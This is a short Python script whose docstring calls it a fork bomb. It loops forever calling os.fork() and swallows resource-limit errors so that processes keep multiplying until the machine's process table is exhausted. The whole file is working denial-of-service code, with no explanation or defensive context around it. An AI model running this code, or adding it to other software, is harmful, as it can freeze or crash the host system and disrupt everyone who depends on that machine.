"""A fork bomb: every process starts others, as fast as it can, without end."""

import os

while True:
    try:
        os.fork()
    except OSError as error:
        if error.errno == 1:
            raise  # none may be started at all
